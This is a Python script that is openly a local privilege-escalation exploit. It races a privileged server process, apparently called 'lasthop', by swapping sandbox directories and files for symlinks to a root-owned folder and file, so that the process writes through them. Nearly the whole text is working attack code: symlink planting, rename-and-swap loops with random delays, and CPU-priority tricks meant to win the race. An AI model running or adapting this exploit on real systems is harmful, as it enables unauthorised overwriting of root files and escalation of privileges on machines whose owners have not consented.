# Runs as the account of the servers. Exchanges whatever that account can write in a sandbox for links to a folder and a file
# of root's, for moments and without end. Standard input names services as SANDBOX ROUND STACK NAME, and SANDBOX . . NAME for
# a cache; at its end this prints what was done how often.
import os
import random
import sys
import time

folder, file = sys.argv[1:3]
names = set(sys.argv[3:])
done = {"made": 0, "exchanged": 0}


def can(call, *paths):
    try:
        call(*paths)
        return True
    except OSError:
        return False


def remove(path):
    if can(os.unlink, path):
        return
    for name in listed(path):
        remove(os.path.join(path, name))
    can(os.rmdir, path)


# Another racer, or the end of the run, may have been here.
def listed(path):
    try:
        return os.listdir(path)
    except OSError:
        return []


def plant(own, name):
    link = os.path.join(own, name)
    if can(os.symlink, folder if name in ("tls", "app", "certs", "programs") else file, link):
        done["made"] += 1
        return link


# What lasthop may be about to write: its folder becomes a link, or one of links.
def exchange(own, what):
    path, aside = os.path.join(own, what), os.path.join(own, ".aside")
    if not can(os.rename, path, aside):
        return
    names.update(listed(aside))
    if random.random() < 0.5:
        can(os.symlink, folder, path)
    elif can(os.mkdir, path):
        for name in names:
            can(os.symlink, folder if name == "app" else file, os.path.join(path, name))
    done["exchanged"] += 1
    time.sleep(random.choice([0, 0.0005, 0.005, 0.05]))
    remove(path)
    can(os.rename, aside, path)


def attack(own):
    links = [plant(own, name) for name in ("tls", "files", "key.pem", "p", "log", "place.json", "certs")]
    if random.random() < 0.2:
        exchange(own, "files")
        exchange(own, "tls")
    for link in links:
        # An old lasthop would follow it for long.
        if link and not link.endswith("/tls"):
            can(os.unlink, link)


def yield_cpus():
    """Lets whatever else runs on this machine go first: a race is won between two calls, not by more CPU time."""
    os.nice(19)
    can(os.setsid)
    try:
        with open("/proc/self/autogroup", "w") as group:
            group.write("19")
    except OSError:
        pass


yield_cpus()
os.set_blocking(0, False)
places, newest, told = set(), 0, b""
while True:
    try:
        more = os.read(0, 65536)
        if not more:
            break
        told += more
    except BlockingIOError:
        pass
    *lines, told = told.split(b"\n")
    for line in lines:
        places.add(tuple(line.decode().split(" ")))
    rounds = [int(place[1]) for place in places if place[1] != "."]
    newest = max(rounds, default=0)
    owns = []
    for sandbox, number, stack, name in list(places):
        if not os.path.isdir(sandbox):
            places.discard((sandbox, number, stack, name))
        elif number == ".":
            owns.append(f"{sandbox}/cache/{name}")
        elif int(number) == newest:
            owns += [f"{sandbox}/{round}.{stack}/{name}" for round in (newest, newest + 1)]
    # A folder that was given away an instant ago.
    for _ in range(200):
        for own in owns:
            plant(own, "tls")
    for own in owns:
        attack(own)
print(done["made"], done["exchanged"])
